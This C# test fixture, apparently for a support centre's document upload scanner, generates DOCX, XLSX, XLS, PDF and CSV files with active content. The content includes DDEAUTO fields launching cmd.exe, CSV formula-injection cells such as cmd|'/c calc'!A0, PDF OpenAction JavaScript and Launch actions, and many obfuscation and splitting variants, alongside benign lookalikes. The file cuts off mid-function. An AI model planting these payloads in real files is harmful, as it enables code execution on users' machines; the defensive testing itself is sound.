using System.Buffers.Binary;
using System.IO.Compression;
using System.Text;

namespace SupportCenter.Tests.Documents;

/// <summary>Small files that do something when they are opened, one for each way, and ordinary ones that look a little like them.</summary>
internal static class ActiveFiles
{
    private const string Rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
    private const string StrictRel = "http://purl.oclc.org/ooxml/officeDocument/relationships/";
    private const string LetterType = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
    private const string W = "xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"";

    /// <summary>Name of the file, what is said of it, the file.</summary>
    public static IReadOnlyDictionary<string, (string Name, string Said, Func<byte[]> File)> Refused { get; } =
        Letters()
            .Concat(PartsOfAnyName())
            .Concat(Sheets())
            .Concat(FormulasInPieces())
            .Concat(OldWorkbooks())
            .Concat(Pdfs())
            .Concat(PackedObjects())
            .Concat(Tables())
            .ToDictionary(entry => $"{entry.Name}: {entry.What}", entry => (entry.Name, entry.Said, entry.File), StringComparer.Ordinal);

    /// <summary>What looks a little like it and is ordinary.</summary>
    public static IReadOnlyDictionary<string, (string Name, Func<byte[]> File)> Ordinary { get; } =
        new Dictionary<string, (string, Func<byte[]>)>(StringComparer.Ordinal)
        {
            ["a letter with links to pages and addresses"] = ("手紙.docx", () =>
                Letter(
                    "",
                    Relation("hyperlink", "https://www.example.com/", external: true),
                    Relation("hyperlink", "mailto:someone@example.com", external: true),
                    Relation("image", "media/image1.png")
                )
            ),
            ["a letter with fields for pages and dates"] = ("手紙.docx", () =>
                Letter(
                    "<w:p><w:instrText> PAGE \\* MERGEFORMAT </w:instrText><w:instrText> HYPERLINK \"https://example.com/link/database\" </w:instrText></w:p>"
                )
            ),
            ["a letter with fields in fields"] = ("手紙.docx", () =>
                Letter(
                    "<w:p><w:fldChar w:fldCharType=\"begin\"/><w:instrText> IF </w:instrText><w:fldChar w:fldCharType=\"begin\"/><w:instrText>PAGE</w:instrText><w:fldChar w:fldCharType=\"separate\"/><w:t>DDE</w:t><w:fldChar w:fldCharType=\"end\"/><w:instrText> = 1</w:instrText><w:fldChar w:fldCharType=\"separate\"/><w:t>LINK</w:t><w:fldChar w:fldCharType=\"end\"/></w:p>"
                )
            ),
            ["a letter with a drawing"] = ("手紙.docx", () =>
                Letter(
                    "<v:shape xmlns:v=\"urn:schemas-microsoft-com:vml\" href=\"https://example.com/\"><v:imagedata src=\"\" id=\"x\"/></v:shape>",
                    [],
                    ("word/media/image1.svg", "<!DOCTYPE svg [<!ENTITY x \"y\">]><svg><f>WEBSERVICE(1)</f>&x;</svg>"),
                    ("word/media/image1.emf", "LBP"),
                    ("word/nothing.bin", "")
                )
            ),
            ["a sheet with a note of two lines"] = ("売上.xlsx", () =>
                Sheet("", [], ("xl/drawings/vmlDrawing1.vml", "<xml><v:textbox><div>x<br></div></v:textbox></xml>"))
            ),
            ["a sheet with checked cells"] = ("売上.xlsx", () =>
                Sheet("<formula1>\"営業|総務,経理\"</formula1><x><f>SUM(A1)</f></x><v>WEBSERVICE(1)</v>")
            ),
            ["a sheet with formulas"] = ("売上.xlsx", () => Sheet("<f>SUM(A1:A3)*IF(B1=\"|\",1,2)</f>")),
            ["a sheet with form controls"] = ("相談票.xlsx", () => Sheet("", Relation("ctrlProp", "../ctrlProps/ctrlProp1.xml"))),
            ["an old workbook of two sheets"] = ("売上.xls", () => Old(Bound(0), Bound(2), SupBook(0x0401), SupBook(0x3A01))),
            ["a PDF that opens at a place"] = ("案内.pdf", () => Pdf("/OpenAction[3 0 R/FitH null]")),
            ["a PDF that goes to a place"] = ("案内.pdf", () => Pdf("/OpenAction<</S/GoTo/D[3 0 R/Fit]>>")),
            ["a PDF that does nothing at other times"] = ("案内.pdf", () => Pdf("/AA<<>>/OpenAction null/X<</FS 7 0 R/F 4/EF/AA/AF[]>>")),
            ["a PDF that goes to a place at another time"] = ("案内.pdf", () => Pdf("/AA<</O<</S/GoTo/D(x)>>>>")),
            ["a PDF with words in strings"] = ("案内.pdf", () =>
                Packed("<</C(/S /GoTo)>>", "/C(stream >> 1 0 obj <<)", "<</Type/ObjStm/N 1/First 4/Filter[/FlateDecode]/C(>>stream)>>")
            ),
            ["a PDF with a picture"] = ("案内.pdf", () =>
                Packed("<<>>", "", more: "11 0 obj\n<</Filter/DCTDecode/Length 9>>\nstream\n/EF /AA ab\nendstream\nendobj\n")
            ),
            ["a PDF with a link to a page"] = ("案内.pdf", () => Pdf("/X<</S/URI/URI(https://example.com)>>")),
            ["a PDF with packed objects"] = ("案内.pdf", () => Packed("<</Type/Font/BaseFont/Helvetica>>", "")),
            ["a PDF whose packed object is a place"] = ("案内.pdf", () => Packed("<</S/GoTo/D[3 0 R/Fit]>>", "/OpenAction 9 0 R")),
            ["a table of words in quotes"] = ("売上.csv", () =>
                Encoding.UTF8.GetBytes("企業名,備考\r\n\"例\"\"示\",\"- A|B, C\r\n- D\"\r\nimage (写真),\"a, =x\"\r\n-5,IMAGES\r\n")
            ),
            ["a table in Shift_JIS whose bytes have bars"] = ("売上.csv", () =>
                CodePagesEncodingProvider.Instance.GetEncoding(932)!.GetBytes("@ポスト!,-ポンプ!,=ポ\r\n")
            ),
            ["a table with sums, signs and numbers below zero"] = ("売上.csv", () =>
                Encoding.UTF8.GetBytes("売上,差額\r\n=SUM(A1:A3),-1200\r\n+81-75-000-0000,@例示\r\n\"A|B\",x\r\n")
            ),
        };

    private static IEnumerable<(string Name, string What, string Said, Func<byte[]> File)> Letters()
    {
        const string name = "計画書.docx";
        foreach (
            var (kind, said) in new[]
            {
                ("attachedTemplate", "リンク"),
                ("image", "リンク"),
                ("externalLinkPath", "リンク"),
                ("oleObject", "埋め込まれた"),
                ("package", "埋め込まれた"),
                ("subDocument", "リンク"),
                ("frame", "リンク"),
                ("mailMergeSource", "データ"),
                ("settings", "リンク"),
                ("anythingElse", "リンク"),
            }
        )
        {
            yield return (name, $"external {kind}", said, () => Letter("", Relation(kind, "http://elsewhere.invalid/x", external: true)));
            yield return (name, $"external {kind}, strict", said, () =>
                Letter("", Relation(kind, "\\\\elsewhere.invalid\\x", external: true).Replace(Rel, StrictRel, StringComparison.Ordinal))
            );
        }

        yield return (name, "a link to a file", "リンク", () =>
            Letter("", Relation("hyperlink", "file://server/share/x.exe", external: true))
        );
        yield return (name, "a link into the network", "リンク", () =>
            Letter("", Relation("hyperlink", "\\\\server\\share", external: true))
        );
        yield return (name, "OLE object under another name", "埋め込まれた", () => Letter("", Relation("oleObject", "media/picture.png")));
        yield return (name, "embedded package", "埋め込まれた", () => Letter("", Relation("package", "x/y.bin")));
        yield return (name, "ActiveX", "ActiveX", () => Letter("", Relation("control", "x.xml")));
        yield return (name, "embedded web page", "埋め込まれた", () => Letter("", Relation("aFChunk", "x.html")));
        yield return (name, "folder of embedded files", "埋め込まれた", () => Letter("", [], ("word/embeddings/oleObject1.bin", "x")));
        yield return (name, "macros", "マクロ", () => Letter("", Relation("vbaProject", "x.bin")));
        yield return (name, "web add-in", "ActiveX", () => Letter("", [], ("word/webextensions/webextension1.xml", "<x/>")));
        foreach (
            var field in new[]
            {
                "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"",
                "DDE excel x y",
                "ddeauto excel x",
                "INCLUDEPICTURE \"http://elsewhere.invalid/x.png\"",
                "INCLUDE \"\\\\\\\\server\\\\x.docx\"",
                "RD \"http://elsewhere.invalid/x.docx\"",
                "DATA x.csv",
                "INCLUDETEXT \"\\\\\\\\server\\\\x.docx\"",
                "LINK Excel.Sheet x",
                "IMPORT x",
                "DATABASE \\d x",
                "QUOTE 68 68 69",
            }
        )
        {
            var escaped = System.Security.SecurityElement.Escape(field);
            yield return (name, $"field {field}", "DDE", () => Letter($"<w:p><w:instrText>{escaped}</w:instrText></w:p>"));
            yield return (name, $"simple field {field}", "DDE", () => Letter($"<w:fldSimple w:instr=\"{escaped}\"/>"));
        }

        yield return (name, "a field in pieces", "DDE", () =>
            Letter(
                "<w:p><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>E</w:instrText></w:r><w:r><w:instrText>AUTO x</w:instrText></w:r></w:p>"
            )
        );
        const string begin = "<w:fldChar w:fldCharType=\"begin\"/>";
        yield return (name, "a field within a field", "DDE", () =>
            Letter($"<w:p>{begin}<w:instrText>IF 1 </w:instrText>{begin}<w:instrText> DDE x</w:instrText></w:p>")
        );
        yield return (name, "a field that another one names", "DDE", () =>
            Letter($"<w:p>{begin}{begin}<w:instrText>QUOTE \"D\"</w:instrText></w:p>")
        );
        foreach (
            var (what, cut) in new[]
            {
                ("a tab", "DDE</w:instrText><w:tab/><w:instrText>x"),
                ("a comment", "DD<!-- -->E x"),
                ("an element", "DD<w:x/>E x"),
                ("words that were deleted", "DD</w:instrText><w:delInstrText>no</w:delInstrText><w:instrText>E x"),
                ("ordinary text", "DD</w:instrText><w:t>E x</w:t><w:instrText>"),
                ("another field", $"DD</w:instrText>{begin}<w:instrText>QUOTE \"E\"</w:instrText><w:instrText>"),
            }
        )
        {
            yield return (name, "a field cut by " + what, "DDE", () => Letter($"<w:p>{begin}<w:instrText>{cut}</w:instrText></w:p>"));
        }

        const string v = "xmlns:v=\"urn:schemas-microsoft-com:vml\" xmlns:o=\"urn:schemas-microsoft-com:office:office\"";
        foreach (
            var address in new[] { "http://elsewhere.invalid/x.png", "&#104;ttp://elsewhere.invalid", "\\\\server\\x.png", "//server/x" }
        )
        {
            foreach (
                var drawing in new[]
                {
                    "<v:imagedata src=\"{0}\"/>",
                    "<v:imagedata o:href='{0}'/>",
                    "<v:fill src=\"{0}\" type=\"frame\"/>",
                    "<v:stroke althref=\"{0}\"/>",
                    "<v:shape src=\"{0}\"/>",
                }
            )
            {
                var xml = $"<v:shape {v}>{drawing.Replace("{0}", address, StringComparison.Ordinal)}";
                yield return (name, $"{drawing} {address}", "リンク", () => Letter($"<w:pict>{xml}</v:shape></w:pict>"));
                yield return ("売上.xlsx", $"{drawing} {address}", "リンク", () =>
                    Sheet("", [], ("xl/drawings/vmlDrawing1.vml", $"<xml>{xml}</v:shape></xml>"))
                );
                yield return ("売上.xlsx", $"no whole XML: {drawing} {address}", "リンク", () =>
                    Sheet("", [], ("xl/drawings/vmlDrawing1.vml", $"<xml><div>x<br></div>{xml}</v:shape></xml>"))
                );
            }
        }

        yield return (name, "a shape that leads to a file", "リンク", () => Letter($"<v:shape {v} href=\"file://server/x.exe\"/>"));
        yield return (name, "mail merge", "データ", () =>
            Letter("", [], ("word/settings.xml", $"<w:settings {W}><w:mailMerge/></w:settings>"))
        );
    }

    private static IEnumerable<(string Name, string What, string Said, Func<byte[]> File)> Sheets()
    {
        const string name = "売上.xlsx";
        yield return (name, "DDE link", "DDE", () =>
            Sheet("", [], ("xl/links/x.xml", "<externalLink><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>"))
        );
        yield return (name, "link to a workbook", "リンク", () => Sheet("", Relation("externalLink", "links/x.xml")));
        yield return (name, "folder of links", "リンク", () => Sheet("", [], ("xl/externalLinks/externalLink1.xml", "<externalLink/>")));
        yield return (name, "OLE object", "埋め込まれた", () => Sheet("<oleObjects><oleObject progId=\"Package\"/></oleObjects>"));
        yield return (name, "ActiveX", "ActiveX", () => Sheet("", [], ("xl/activeX/activeX1.xml", "<x/>")));
        yield return (name, "connections", "データ", () => Sheet("", Relation("connections", "x.xml")));
        yield return (name, "connection under another name", "データ", () =>
            Sheet("", [], ("xl/y.xml", "<connections><connection><dbPr connection=\"x\"/></connection></connections>"))
        );
        yield return (name, "query table", "データ", () => Sheet("", Relation("queryTable", "x.xml")));
        yield return (name, "Power Query", "データ", () =>
            Sheet("", [], ("customXml/item1.xml", "<DataMashup xmlns=\"http://schemas.microsoft.com/DataMashup\">AA==</DataMashup>"))
        );
        yield return (name, "macro sheet", "マクロ", () => Sheet("", Relation("xlMacrosheet", "x.xml")));
        yield return (name, "macro sheet by its folder", "マクロ", () => Sheet("", [], ("xl/macrosheets/sheet1.xml", "<x/>")));
        yield return (name, "ribbon", "ActiveX", () => Sheet("", [], ("customUI/customUI.xml", "<x/>")));
        yield return (name, "WEBSERVICE", "データ", () => Sheet("<f>_xlfn.WEBSERVICE(\"http://elsewhere.invalid\")</f>"));
        yield return (name, "DDE in a formula", "データ", () => Sheet("<f>cmd|'/c calc'!A0</f>"));
    }

    /// <summary>What a part is, its content type and the relationships say, whatever its name and encoding are.</summary>
    private static IEnumerable<(string Name, string What, string Said, Func<byte[]> File)> PartsOfAnyName()
    {
        var encodings = new (string What, Func<string, byte[]> Write)[]
        {
            ("UTF-8", Encoding.UTF8.GetBytes),
            ("UTF-8 with a mark", xml => [.. Encoding.UTF8.GetPreamble(), .. Encoding.UTF8.GetBytes(xml)]),
            ("UTF-16", xml => [.. Encoding.Unicode.GetPreamble(), .. Encoding.Unicode.GetBytes(xml)]),
            ("UTF-16 of a Mac", xml => [.. Encoding.BigEndianUnicode.GetPreamble(), .. Encoding.BigEndianUnicode.GetBytes(xml)]),
            ("blanks before", xml => Encoding.UTF8.GetBytes(new string(' ', 1000) + xml)),
        };
        foreach (var end in new[] { ".dat", "", ".XML", ".bin", ".png", ".vml", ".svg", ".xml.x" })
        {
            foreach (var (what, write) in encodings)
            {
                yield return ("計画書.docx", $"main part {end} in {what}", "DDE", () =>
                    Package(
                        "word/document" + end,
                        LetterType,
                        write($"<w:document {W}><w:p><w:instrText>DDEAUTO x</w:instrText></w:p></w:document>"),
                        "word/_rels/document.rels",
                        [],
                        []
                    )
                );
                yield return ("売上.xlsx", $"sheet {end} in {what}", "データ", () =>
                    Package(
                        "xl/workbook" + end,
                        SampleFiles.WorkbookType,
                        Encoding.UTF8.GetBytes("<workbook/>"),
                        "xl/_rels/workbook.rels",
                        [],
                        ("xl/sheet1" + end, write("<worksheet><f>WEBSERVICE(A1)</f></worksheet>"))
                    )
                );
            }
        }

        yield return ("計画書.docx", "EBCDIC", "壊れ", () =>
            Package("word/document.dat", LetterType, [0x4C, 0x6F, 0xA7, 0x94, 0x93, 0x40], "word/_rels/document.rels", [], [])
        );
    }

    /// <summary>Each element that is calculated, and its text cut at each place in each way.</summary>
    private static IEnumerable<(string Name, string What, string Said, Func<byte[]> File)> FormulasInPieces()
    {
        const string name = "売上.xlsx";
        const string formula = "WEBSERVICE(A1)";
        foreach (
            var element in new[]
            {
                "f",
                "formula",
                "formula1",
                "formula2",
                "oldFormula",
                "definedName",
                "calculatedColumnFormula",
                "totalsRowFormula",
            }
        )
        {
            foreach (
                var cut in new[]
                {
                    "",
                    "<!-- -->",
                    "<?x y?>",
                    "<![CDATA[]]>",
                    "<x/>",
                    "<x>no</x>",
                    "<x>{0}</x>",
                    "&#{1};",
                    "<![CDATA[{0}]]>",
                }
            )
            {
                // A word that stands behind nothing, one in the middle, and the last one before the bracket.
                foreach (var at in cut.Length == 0 ? [0] : Enumerable.Range(0, element == "f" ? 10 : 1))
                {
                    var replaces = cut.Contains('{', StringComparison.Ordinal);
                    var piece = cut.Replace("{0}", formula[at..(at + 1)], StringComparison.Ordinal)
                        .Replace("{1}", $"{(int)formula[at]}", StringComparison.Ordinal);
                    var text = formula[..at] + piece + formula[(replaces ? at + 1 : at)..];
                    yield return (name, $"<{element}> {text}", "データ", () => Sheet($"<{element}>{text}</{element}>"));
                }
            }

            yield return (name, $"<{element}> within another", "データ", () =>
                Sheet($"<formula1><{element}>RTD(1)</{element}></formula1>")
            );
        }

        foreach (var function in new[] { "IMAGE", "_xlfn.IMAGE", "IMPORTTEXT", "IMPORTCSV", "DDE", "CALL", "REGISTER.ID", "RTD" })
        {
            yield return (name, function, "データ", () => Sheet($"<f>IF(1,{function}  (\"x\"))</f>"));
        }

        yield return (name, "DDE of a quoted program", "データ", () => Sheet("<f>'cmd'|'/c calc'!A0</f>"));
        yield return (name, "calculated field", "データ", () => Sheet("<cacheField formula=\"WEBSERVICE(A1)\"/>"));
    }

    private static IEnumerable<(string Name, string What, string Said, Func<byte[]> File)> OldWorkbooks()
    {
        const string name = "売上.xls";
        yield return (name, "macro sheet of Excel 4.0", "マクロ", () => Old(Bound(0), Bound(1)));
        yield return (name, "sheet of Visual Basic", "マクロ", () => Old(Bound(6)));
        yield return (name, "macro sheet by its beginning", "マクロ", () => Old(Record(0x0809, 0, 6, 0x40, 0)));
        yield return (name, "link to a workbook", "リンク", () => Old(SupBook(0x0010)));
        yield return (name, "query table", "データ", () => Old(Record(0x01AD, 0, 0)));
        yield return (name, "database query", "データ", () => Old(Record(0x00DC, 0, 0)));
        yield return (name, "connection", "データ", () => Old(Record(0x0876, 0, 0)));
        yield return (name, "pivot table of a query", "データ", () => Old(Record(0x00E3, 2, 0)));
        yield return (name, "password behind other records", "パスワード", () => Old(Bound(0), Record(0x002F, 0, 0)));
        foreach (
            var (stream, said) in new[]
            {
                ("_VBA_PROJECT_CUR", "マクロ"),
                ("VBA", "マクロ"),
                ("MBD00A1B2C3", "埋め込まれた"),
                ("LNK00A1B2C3", "埋め込まれた"),
                ("\u0001Ole10Native", "埋め込まれた"),
                ("Ctls", "ActiveX"),
                ("\u0003OCXNAME", "ActiveX"),
                ("OCXDATA", "ActiveX"),
                ("ObjectPool", "埋め込まれた"),
                ("Package", "埋め込まれた"),
                ("EncryptedPackage", "パスワード"),
            }
        )
        {
            foreach (var written in new[] { stream, stream.ToUpperInvariant(), stream.ToLowerInvariant() }.Distinct(StringComparer.Ordinal))
            {
                yield return (name, "stream " + written, said, () => SampleFiles.Compound(written));
            }
        }

        foreach (var workbook in new[] { "Workbook", "WORKBOOK", "workbook", "Book", "BOOK", "bOOK" })
        {
            byte[] beginning = Record(0x0809, 0, 6, 5, 0);
            yield return (name, $"macro sheet in {workbook}", "マクロ", () => SampleFiles.Compound(workbook, [.. beginning, .. Bound(1)]));
            yield return (name, $"macro sheet in {workbook} beside another", "マクロ", () =>
                SampleFiles.Compound(("Book", [.. beginning, .. Bound(0)]), (workbook, [.. beginning, .. Bound(1)]))
            );
        }
    }

    private static IEnumerable<(string Name, string What, string Said, Func<byte[]> File)> Pdfs()
    {
        const string name = "申請書.pdf";
        foreach (
            var (what, said) in new[]
            {
                ("/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>", "スクリプト"),
                ("/OpenAction<</S/J#61vaScript/JS 7 0 R>>", "スクリプト"),
                ("/AA<</O<</S/#4A#61#76#61#53#63#72#69#70#74/JS(x)>>>>", "スクリプト"),
                ("/Names<</JavaScript<</Names[(x)7 0 R]>>>>", "スクリプト"),
                ("/AcroForm<</XFA 7 0 R>>", "スクリプト"),
                ("/X<</S/Rendition/JS(x)>>", "スクリプト"),
                ("/OpenAction<</S/URI/URI(http://elsewhere.invalid)>>", "スクリプト"),
                ("/OpenAction 7 0 R", "スクリプト"),
                ("/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next 7 0 R>>", "スクリプト"),
                ("/OpenAction<</S/GoTo/S/URI/URI(x)>>", "スクリプト"),
                ("/OpenAction<</D(/S/GoTo)/S/URI/URI(x)>>", "スクリプト"),
                ("/AA<</O<</S/URI/URI(http://elsewhere.invalid)>>>>", "スクリプト"),
                ("/AA<</O<</S/GoTo/D[3 0 R/Fit]>>/C<</S/Named/N/Print>>>>", "スクリプト"),
                ("/A#41 <</O 7 0 R>>", "スクリプト"),
                ("/AA 7 0 R", "スクリプト"),
                ("/X<</Subtype/3D/OnInstantiate 7 0 R>>", "スクリプト"),
                ("/X<</Subtype/FileAttachment/FS 7 0 R>>", "埋め込まれた"),
                ("/X<</Type/Filespec/F(x.exe)/EF<</F 7 0 R>>>>", "埋め込まれた"),
                ("/X<</Type/Filespec/F(x.exe)/E#46%\n7 0 R>>", "埋め込まれた"),
                ("/AF[<</Type/Filespec/UF(x.exe)/EF <</UF 7 0 R>>>>]", "埋め込まれた"),
                ("/X<</FS/URL/F(http://elsewhere.invalid)>>", "リンク"),
                ("/X<</FS %\n/U#52L>>", "リンク"),
                ("/X<</S/Launch/F(cmd.exe)>>", "DDE"),
                ("/X<</S/SubmitForm/F(http://elsewhere.invalid)>>", "DDE"),
                ("/X<</S/ImportData/F(x)>>", "DDE"),
                ("/X<</S/GoToR/F(\\\\\\\\server\\\\x)>>", "リンク"),
                ("/X<</S/GoToE/T<<>>>>", "リンク"),
                ("/Names<</EmbeddedFiles<</Names[]>>>>", "埋め込まれた"),
                ("/X<</Type/EmbeddedFile>>", "埋め込まれた"),
                ("/X<</Type/Embedded#46ile>>", "埋め込まれた"),
                ("/X<</Subtype/RichMedia>>", "埋め込まれた"),
                ("/X<</Encrypt 7 0 R>>", "パスワード"),
            }
        )
        {
            yield return (name, what, said, () => Pdf(what));
            yield return (name, "packed " + what, said, () => Packed($"<<{what}>>", ""));
        }

        yield return (name, "opening by a packed object", "スクリプト", () => Packed("<</S/URI/URI(x)>>", "/OpenAction 9 0 R"));
        yield return (name, "opening by one of two objects", "スクリプト", () =>
            Packed("<</S/URI/URI(x)>>", "/OpenAction 9 0 R", more: "9 0 obj\n<</S/GoTo/D[3 0 R/Fit]>>\nendobj\n")
        );
        yield return (name, "one object for opening and for other times", "スクリプト", () =>
            Packed("<</S/GoTo/D[3 0 R/Fit]/O<</S/URI/URI(x)>>>>", "/AA 9 0 R/OpenAction 9 0 R")
        );
        foreach (var head in new[] { "9 0 obj", "009 0 obj", "9 00000 obj", "9 %x\n0%x\robj%\n" })
        {
            yield return (name, $"opening by the object {head}", "スクリプト", () =>
                Packed("<</S/GoTo/D[3 0 R/Fit]>>", "/OpenAction 9 0 R", more: head + "<</S/URI/URI(x)>>\nendobj\n")
            );
        }

        foreach (var source in new[] { "(//server/x)", "<</FS/URL/F(http://elsewhere.invalid)>>", "<</F(x)>>", "7 0 R", "<2F>" })
        {
            yield return (name, "a stream whose content is at " + source, "リンク", () =>
                Packed("<<>>", "", more: $"11 0 obj\n<</Length 0/F {source}>>\nstream\n\nendstream\nendobj\n")
            );
        }
    }

    /// <summary>A script in a packed stream of objects, whose dictionary is written in each way, and packed so many times.</summary>
    private static IEnumerable<(string Name, string What, string Said, Func<byte[]> File)> PackedObjects()
    {
        const string name = "申請書.pdf";
        const string script = "<</S/JavaScript/JS(x)>>";
        foreach (
            var before in new[]
            {
                "",
                "/C(stream )",
                "/C(\\)stream \\(>>)",
                "/C(a(stream)b)",
                "/C<</D(>>)/Filter/LZWDecode>>",
                "/C[(stream)<</X(>>stream)>>]",
                "/C%stream >>\n(x)",
                "/stream/stream",
                "/C<73747265616D>",
                "/C 1 2 (stream)",
            }
        )
        {
            foreach (
                var (filters, times) in new[]
                {
                    ("/Filter/FlateDecode", 1),
                    ("/Filter/Fl#61teDecode", 1),
                    ("/F#69lter%\n/FlateDecode", 1),
                    ("/Filter[/FlateDecode]", 1),
                    ("/Filter[/FlateDecode/FlateDecode]", 2),
                    ("/Filter[ /FlateDecode /Fl %]\n/FlateDecode]", 3),
                    ("", 0),
                }
            )
            {
                foreach (var type in new[] { "/Type/ObjStm/N 1/First 4", "/N 1/First 4", "/Type/Obj#53tm/First 4/N 1" })
                {
                    yield return (name, $"{type}{before}{filters}", "スクリプト", () =>
                        Packed(script, "", $"<<{type}{before}{filters}/Length 1>>", times)
                    );
                }
            }
        }

        foreach (
            var filters in new[]
            {
                "/Filter/LZWDecode",
                "/Filter[/FlateDecode/ASCIIHexDecode]",
                "/Filter[/ASCII85Decode/FlateDecode]",
                "/Filter 7 0 R",
                "/Filter[7 0 R]",
                "/Filter/FlateDecode/Filter[/FlateDecode/FlateDecode]",
                "/Filter/FlateDecode/DecodeParms<</Predictor 12/Columns 4>>",
                "/Filter/FlateDecode/DecodeParms 7 0 R",
                "/Filter/FlateDecode/C(x",
                "/Filter/FlateDecode/C[(x)>>",
                "/Filter[/FlateDecode/FlateDecode/FlateDecode/FlateDecode/FlateDecode]",
            }
        )
        {
            yield return (name, filters, "壊れ", () => Packed(script, "", $"<</Type/ObjStm/N 1/First 4{filters}>>", 1));
        }
    }

    private static IEnumerable<(string Name, string What, string Said, Func<byte[]> File)> Tables()
    {
        foreach (
            var cell in new[]
            {
                "=cmd|'/c calc'!A0",
                "+cmd|'/c calc'!A0",
                "-2+3+cmd|'/c calc'!A0",
                "@SUM(1)|x!A0",
                "=WEBSERVICE(\"http://x\")",
                "=SUM(1,2)+cmd|'/c calc'!A0",
                "=SUM(1;2)+cmd|'/c calc'!A0",
                "=IF(1,WEBSERVICE(\"http://x\"))",
                "=IF(1;\"a,b\";WEBSERVICE(\"http://x\"))",
                "=IMAGE(\"http://x/x.png\")",
                "=HYPERLINK(\"http://x?\"&A1,\"x\")",
                "＝cmd|'/c calc'!A0",
                "  =IF(1,\n2,cmd|'/c calc'!A0)",
            }
        )
        {
            foreach (var (separator, sign) in new[] { (",", "comma"), (";", "semicolon"), ("\t", "tab"), ("^", "sign of its own") })
            {
                var first = separator == "^" ? "sep=^\r\n" : "";
                var quoted = $"\"{cell.Replace("\"", "\"\"", StringComparison.Ordinal)}\"";
                foreach (var encoding in new[] { Encoding.UTF8, CodePagesEncodingProvider.Instance.GetEncoding(932)! })
                {
                    yield return ("表.csv", $"behind a {sign}, {encoding.WebName}: {cell}", "DDE", () =>
                        encoding.GetBytes($"{first}企業名{separator}ポ\r\n\"例\"\"示\"{separator}{quoted}{separator}x\r\n")
                    );
                }

                yield return ("表.csv", $"behind a {sign} and a blank: {cell}", "DDE", () =>
                    Encoding.UTF8.GetBytes($"{first}例示{separator} {quoted}\r\n")
                );
                yield return ("表.csv", $"behind a {sign} and a quote that is none: {cell}", "DDE", () =>
                    Encoding.UTF8.GetBytes($"{first}例示{separator} \"x{separator}{quoted}\r\n")
                );
                if (cell.IndexOfAny([separator[0], '\n']) < 0)
                {
                    yield return ("表.csv", $"without quotes behind a {sign}: {cell}", "DDE", () =>
                        Encoding.UTF8.GetBytes($"{first}例示{separator}{cell}\r\n")
                    );
                }
            }

            yield return ("表.csv", "quoted " + cell, "DDE", () =>
                Encoding.UTF8.GetBytes($"\"{cell.Replace("\"", "\"\"", StringComparison.Ordinal)}\",x\r\n")
            );
            yield return ("表.csv", "UTF-16 " + cell, "DDE", () =>
                [
                    .. Encoding.Unicode.GetPreamble(),
                    .. Encoding.Unicode.GetBytes($"例示\t\"{cell.Replace("\"", "\"\"", StringComparison.Ordinal)}\"\r\n"),
                ]
            );
        }
    }

    private static string Relation(string kind, string target, bool external = false) =>
        $"<Relationship Id=\"r{kind}\" Type=\"{Rel}{kind}\" Target=\"{System.Security.SecurityElement.Escape(target)}\"{(external ? " TargetMode=\"External\"" : "")}/>";

    private static byte[] Letter(string body, params string[] relations) => Letter(body, relations, []);

    private static byte[] Letter(string body, string[] relations, params (string Name, string Xml)[] more) =>
        Package(
            "word/document.xml",
            LetterType,
            Encoding.UTF8.GetBytes($"<w:document {W}><w:body>{body}</w:body></w:document>"),
            "word/_rels/document.xml.rels",
            relations,
            [.. more.Select(part => (part.Name, Encoding.UTF8.GetBytes(part.Xml)))]
        );

    private static byte[] Sheet(string body, params string[] relations) => Sheet(body, relations, []);

    private static byte[] Sheet(string body, string[] relations, params (string Name, string Xml)[] more) =>
        Package(
            "xl/workbook.xml",
            SampleFiles.WorkbookType,
            Encoding.UTF8.GetBytes("<workbook/>"),
            "xl/_rels/workbook.xml.rels",
            relations,
            [
                ("xl/worksheets/sheet1.xml", Encoding.UTF8.GetBytes($"<worksheet><sheetData>{body}</sheetData></worksheet>")),
                .. more.Select(part => (part.Name, Encoding.UTF8.GetBytes(part.Xml))),
            ]
        );

    private static byte[] Package(
        string main,
        string type,
        byte[] content,
        string rels,
        string[] relations,
        params (string Name, byte[] Content)[] more
    ) =>
        SampleFiles.Zip([
            (
                "[Content_Types].xml",
                Encoding.UTF8.GetBytes(
                    $"<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Override PartName=\"/{main}\" ContentType=\"{type}\"/></Types>"
                )
            ),
            (main, content),
            (
                rels,
                Encoding.UTF8.GetBytes(
                    $"<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">{string.Concat(relations)}</Relationships>"
                )
            ),
            .. more,
        ]);

    private static byte[] Old(params byte[][] records) =>
        SampleFiles.Compound("Workbook", [.. Record(0x0809, 0, 6, 5, 0), .. records.SelectMany(record => record)]);

    private static byte[] Bound(byte kind) => Record(0x0085, 0, 0, 0, 0, 0, kind, 1, 0, (byte)'A');

    private static byte[] SupBook(ushort kind) => Record(0x01AE, 1, 0, (byte)kind, (byte)(kind >> 8));

    private static byte[] Record(ushort type, params byte[] content)
    {
        var record = new byte[4 + content.Length];
        BinaryPrimitives.WriteUInt16LittleEndian(record, type);
        BinaryPrimitives.WriteUInt16LittleEndian(record.AsSpan(2), (ushort)content.Length);
        content.CopyTo(record, 4);
        return record;
    }

    private static byte[] Pdf(string catalogue) =>
        Encoding.Latin1.GetBytes(
            Encoding.Latin1.GetString(SampleFiles.Pdf).Replace("/Pages 2 0 R", "/Pages 2 0 R" + catalogue, StringComparison.Ordinal)
        );

    /// <summary>A PDF in which object 9 is in a packed stream of objects.</summary>
    private static byte[] Packed(
        string packedObject,
        string catalogue,
        string dictionary = "<</Type/ObjStm/N 1/First 4/Filter/FlateDecode>>",
        int times = 1,
        string more = ""
    )
    {
        var content = Encoding.Latin1.GetBytes("9 0 " + packedObject);
        for (var i = 0; i < times; i++)
        {
            using var stream = new MemoryStream();
            using (var zip = new ZLibStream(stream, CompressionLevel.SmallestSize, leaveOpen: true))
            {
                zip.Write(content);
            }

            content = stream.ToArray();
        }

        var file = Encoding.Latin1.GetString(Pdf(catalogue));
        var at = file.IndexOf("xref\n", StringComparison.Ordinal);
        return Encoding.Latin1.GetBytes(
